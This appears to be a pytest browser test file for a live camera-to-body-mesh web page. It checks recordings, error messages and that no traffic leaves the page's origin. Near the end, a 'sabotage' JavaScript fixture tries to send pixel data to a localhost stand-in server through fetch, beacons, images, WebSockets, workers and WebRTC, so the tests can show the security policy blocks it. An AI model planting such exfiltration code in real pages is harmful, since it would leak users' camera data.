"""The live page in a real browser: a rendered person as its camera, and everything it asks for."""

import io
import json
import re
import socket
import struct
from collections.abc import Iterator
from contextlib import AbstractContextManager
from pathlib import Path

import numpy as np
import pytest
from chromium import (
    ALLOWED,
    DENIED,
    FAKE_CAMERA,
    browsing,
    need_chromium,
    read_traffic,
    state,
    wait_for,
)
from PIL import Image

from pchmr.bench.live import page as driver
from pchmr.bench.live.page import READY, camera_flags, errors_on_person
from pchmr.bench.live.walking import Walking, walking
from pchmr.body import BodyModel
from pchmr.cli import main
from pchmr.config import LiveConfig
from pchmr.device import local_server
from pchmr.device.bundles import PagesError
from pchmr.device.local_server import Content, LocalServer, Site
from pchmr.perception.fetched import state as state_of

pytestmark = pytest.mark.browser
SECONDS = 1.6
KINDS = ("bvh", "glb")
LARGEST_SHARE = 0.04  # of the person's size
NOBODY = "Nobody is in view. Step back"
BLIND = "Without the landmarks the page cannot tell"


def files_of(config: LiveConfig, *, landmarks: bool = True) -> dict[str, Content]:
    need_chromium()
    try:
        return driver.files_of(config, landmarks=landmarks)
    except PagesError as error:
        pytest.skip(str(error))


def serving(files: dict[str, Content]) -> AbstractContextManager[LocalServer]:
    return driver.serving(Site.of_table(files))


@pytest.fixture(scope="module")
def clip(body: BodyModel) -> Walking:
    need_chromium()
    return walking(body, seconds=SECONDS)


def blank(folder: Path) -> Path:
    Image.new("RGB", (320, 240), (90, 90, 90)).save(folder / "blank.png")
    return folder / "blank.png"


def test_a_camera_becomes_meshes_and_nothing_is_asked_for(clip: Walking, tmp_path: Path) -> None:
    with serving(files_of(LiveConfig())) as server:
        with browsing(tmp_path, *camera_flags(clip, tmp_path)) as page:
            page.goto(server.address)
            wait_for(page, READY)
            assert state(page)["status"] == "ready"
            assert state(page)["provider"] == "wasm" and len(state(page)["timings"]) >= 2
            assert "no WebGPU here" in page.inner_text("#runs-on")
            assert page.evaluate("crossOriginIsolated")
            assert page.evaluate("typeof RTCPeerConnection") == "undefined"
            asked = len(server.site.log)
            page.keyboard.press("r")
            assert "start the camera" in page.inner_text("#recorder")
            page.keyboard.press("c")
            wait_for(page, "window.pchmr.state.meshes >= 5")
            assert page.evaluate(PAINTED) > 1000
            saved = {kind: recorded(page, kind, tmp_path).read_bytes() for kind in KINDS}
            more(page, 2)
            assert "frames saved as glb" in page.inner_text("#recorder")
            check_ends(page)
            photo = tmp_path / "photo.jpg"
            photo.write_bytes(clip.frames[0])
            page.set_input_files("#file", photo)
            more(page, 2)
            check_late_camera(page, video_of(clip, tmp_path))
            page.evaluate(COUNT_ROUNDS)
            looped = recorded(page, "bvh", tmp_path, "window.rounds >= 2")
            assert int(re.findall(r"Frames: (\d+)", looped.read_text())[0]) >= 3
            page.screenshot(path=tmp_path / "live.png")
            assert page.inner_text("#hash") and page.inner_text("#fps") != "–"
            assert len(server.site.log) == asked
        assert all(line.startswith("GET ") and line.endswith(" 200") for line in server.site.log)
        traffic = read_traffic(tmp_path / "net.json")
        assert len(traffic.requests) > 5
        assert not traffic.beyond(server.origins[0])
        assert not traffic.far_sockets(server.origins[0])
    check_bvh(saved["bvh"], tmp_path)
    check_glb(saved["glb"])


COUNT_ROUNDS = """(() => {
  const video = document.getElementById("video");
  let last = 0;
  window.rounds = 0;
  setInterval(() => {
    if (video.currentTime < last) window.rounds += 1;
    last = video.currentTime;
  }, 20);
})()"""


PAINTED = """(() => {
  const canvas = document.createElement("canvas"), over = document.getElementById("over");
  canvas.width = over.width; canvas.height = over.height;
  const context = canvas.getContext("2d");
  context.drawImage(over, 0, 0);
  const { data } = context.getImageData(0, 0, canvas.width, canvas.height);
  return data.filter((value, at) => at % 4 === 3 && value > 0).length;
})()"""


def more(page, count: int) -> None:  # type: ignore[no-untyped-def]
    wait_for(page, f"window.pchmr.state.frames >= {state(page)['frames'] + count}")


def check_ends(page) -> None:  # type: ignore[no-untyped-def]
    """Stop stays stopped, and a camera that ends of itself says so."""
    page.keyboard.press("s")
    page.wait_for_timeout(700)
    assert state(page)["status"] == "ready" and "Stopped" in page.inner_text("#status")
    page.keyboard.press("c")
    more(page, 1)
    page.evaluate(
        """document.getElementById("video").srcObject.getVideoTracks()[0]
        .dispatchEvent(new Event("ended"))"""
    )
    page.wait_for_timeout(700)
    assert state(page)["status"] == "no-source" and "camera ended" in page.inner_text("#status")


def check_late_camera(page, video: Path) -> None:  # type: ignore[no-untyped-def]
    """A camera that is allowed after a file was dropped leaves the file's video alone."""
    page.evaluate(
        """(() => {
          const devices = navigator.mediaDevices, ask = devices.getUserMedia.bind(devices);
          devices.getUserMedia = async (wanted) => {
            await new Promise((done) => setTimeout(done, 1500));
            return ask(wanted);
          };
        })()"""
    )
    page.keyboard.press("c")
    page.set_input_files("#file", video)
    more(page, 1)
    page.wait_for_timeout(2000)
    assert not page.evaluate("document.getElementById('video').paused")
    more(page, 1)


def video_of(clip: Walking, folder: Path) -> Path:
    """A short file that this browser plays."""
    import av

    path = folder / "walk.webm"
    with av.open(path, "w") as container:
        stream = container.add_stream("libvpx", rate=10)
        stream.width, stream.height = 320, 240
        for content in clip.frames:
            image = Image.open(io.BytesIO(content)).resize((320, 240))
            container.mux(stream.encode(av.VideoFrame.from_image(image)))
        container.mux(stream.encode())
    return path


def recorded(page, kind: str, folder: Path, until: str = "true") -> Path:  # type: ignore[no-untyped-def]
    page.select_option("#format", kind)
    page.click("#record")
    done = state(page)["meshes"]
    wait_for(page, f"window.pchmr.state.meshes > {done + 2} && {until}")
    with page.expect_download() as download:
        page.click("#record")
    download.value.save_as(folder / f"recording.{kind}")
    return folder / f"recording.{kind}"


def check_bvh(data: bytes, folder: Path) -> None:
    import bvhio

    path = folder / "first.bvh"
    path.write_bytes(data)
    root = bvhio.readAsBvh(str(path))
    assert root.FrameCount >= 1
    assert len(root.Root.layout()) == 24


def check_glb(data: bytes) -> None:
    magic, version, size = struct.unpack("<III", data[:12])
    length, kind = struct.unpack("<II", data[12:20])
    document = json.loads(data[20 : 20 + length])
    assert (magic, version, size, kind) == (0x46546C67, 2, len(data), 0x4E4F534A)
    assert len(document["skins"][0]["joints"]) == 24
    assert len(document["animations"][0]["channels"]) == 25
    assert document["buffers"][0]["byteLength"] == size - 28 - length


def test_no_frame_is_looked_at_that_is_not_drawn(clip: Walking, tmp_path: Path) -> None:
    with (
        serving(files_of(LiveConfig(), landmarks=False)) as server,
        browsing(tmp_path, *camera_flags(clip, tmp_path)) as page,
    ):
        page.goto(server.address)
        wait_for(page, READY)
        page.keyboard.press("c")
        wait_for(page, "window.pchmr.state.meshes >= 3")
        before = state(page)
        page.wait_for_timeout(3000)
        after = state(page)
    drawn = after["meshes"] - before["meshes"]
    assert drawn >= 3
    assert after["frames"] - before["frames"] - drawn <= 2  # one under way, one that waits


@pytest.mark.priors
def test_the_mesh_is_on_the_person(clip: Walking, tmp_path: Path) -> None:
    if state_of("blazepose") != "ok":
        pytest.skip("needs `pchmr priors get blazepose`")
    with (
        serving(files_of(LiveConfig())) as server,
        browsing(tmp_path, *camera_flags(clip, tmp_path)) as page,
    ):
        page.goto(server.address)
        wait_for(page, READY)
        page.keyboard.press("c")
        errors = errors_on_person(page, clip, frames=12)
        page.screenshot(path=tmp_path / "mesh.png")
        page.set_input_files("#file", blank(tmp_path))
        wait_for(page, "window.pchmr.state.status === 'nobody'")
        assert page.inner_text("#status").startswith(NOBODY)
    print(f"median {100 * np.median(errors):.2f} % of size over {len(errors)} frames")
    assert len(errors) >= 8 and np.median(errors) <= LARGEST_SHARE


@pytest.mark.parametrize(
    ("flags", "words"), [((FAKE_CAMERA, DENIED), "not allowed"), ((ALLOWED,), "There is no camera")]
)
def test_a_camera_that_cannot_be_had_is_told(
    tmp_path: Path, flags: tuple[str, ...], words: str
) -> None:
    files = files_of(LiveConfig(), landmarks=False)
    with serving(files) as server, browsing(tmp_path, *flags) as page:
        page.goto(server.address)
        wait_for(page, READY)
        page.keyboard.press("c")
        wait_for(page, "window.pchmr.state.status === 'no-source'")
        assert words in page.inner_text("#status")
        if DENIED not in flags:
            return
        (tmp_path / "no.mp4").write_bytes(b"no video")
        page.set_input_files("#file", tmp_path / "no.mp4")
        wait_for(page, "window.pchmr.state.words.includes('no.mp4')")
        page.set_input_files("#file", blank(tmp_path))
        wait_for(page, "window.pchmr.state.frames >= 1")
        assert BLIND in page.inner_text("#status")


def test_an_export_of_another_version_is_told_on_the_page(tmp_path: Path) -> None:
    export = tmp_path / "export"
    export.mkdir()
    card = {"default": "fp32", "outputs": ["mesh"], "variants": {"fp32": {}}}
    (export / "card.json").write_text(json.dumps(card))
    with (
        serving(files_of(LiveConfig(export=export))) as server,
        browsing(tmp_path) as page,
    ):
        page.goto(server.address)
        wait_for(page, READY)
        assert "another version" in page.inner_text("#status")
        assert "pchmr export" in page.inner_text("#status")


def test_a_second_launch_on_the_port_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    with serving(files_of(LiveConfig())) as server:
        capsys.readouterr()
        assert main(["live", "--port", str(server.server_port)]) == 2
    said = capsys.readouterr().err
    assert said.count("\n") == 1 and "give another --port" in said


PAGE = b"""<!doctype html><title>sabotage</title><script src="sabotage.js"></script>"""
SABOTAGE = b"""
const [http, udp] = location.hash.slice(1).split("-"), pixels = "pixels=1";
const far = `http://127.0.0.1:${http}`;
fetch(`${far}/get?${pixels}`, {mode: "no-cors"}).catch(() => 0);
fetch("own", {method: "POST", body: pixels}).catch(() => 0);
navigator.sendBeacon("beacon", pixels);
new Image().src = `${far}/image`;
try { new WebSocket(far.replace("http", "ws") + "/socket"); } catch {}
const work = new Blob([`fetch("${far}/worker", {mode: "no-cors"}).catch(() => 0)`]);
new Worker(URL.createObjectURL(work));
const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${udp}`}]});
peer.createDataChannel("pixels");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
"""
SABOTAGED = {"": Content(PAGE, "html"), "sabotage.js": Content(SABOTAGE, "js")}


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A UDP port of this machine that answers nothing."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.bind(("127.0.0.1", 0))
        line.setblocking(False)
        yield line


def test_a_page_that_sends_pictures_away_would_be_seen(
    tmp_path: Path, listener: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The witness of the tests above: without our policy, every way out stands in the log."""
    need_chromium()
    monkeypatch.setattr(local_server, "HEADERS", {})
    udp = listener.getsockname()[1]
    with serving(SABOTAGED) as server, serving({}) as far:
        with browsing(tmp_path) as page:
            page.goto(f"{server.address}#{far.server_port}-{udp}")
            page.wait_for_timeout(4000)
        traffic = read_traffic(tmp_path / "net.json")
        beyond = traffic.beyond(server.origins[0])
        sockets = traffic.far_sockets(server.origins[0])
    ways = ("get", "own", "beacon", "image", "socket", "worker")
    assert not [way for way in ways if not any(f"/{way}" in url for _, url, _ in beyond)]
    assert {f"127.0.0.1:{port}" for port in (far.server_port, udp)} <= sockets


def test_the_policy_stops_what_the_sabotaged_script_does(
    tmp_path: Path, listener: socket.socket
) -> None:
    """The same script, of the page's own origin, under our headers: it runs, and reaches nobody."""
    need_chromium()
    with serving(SABOTAGED) as server, serving({}) as far:
        with browsing(tmp_path) as page:
            page.goto(f"{server.address}#{far.server_port}-{listener.getsockname()[1]}")
            page.wait_for_timeout(3000)
        beyond = read_traffic(tmp_path / "net.json").beyond(server.origins[0])
        assert "GET /sabotage.js 200" in server.site.log and not far.site.log
        assert {url.rpartition("/")[2] for _, url, _ in beyond} <= {"own", "beacon"}
        refused = [line for line in server.site.log if line.startswith("POST")]
        assert refused and not [line for line in refused if line.endswith(" 200")]
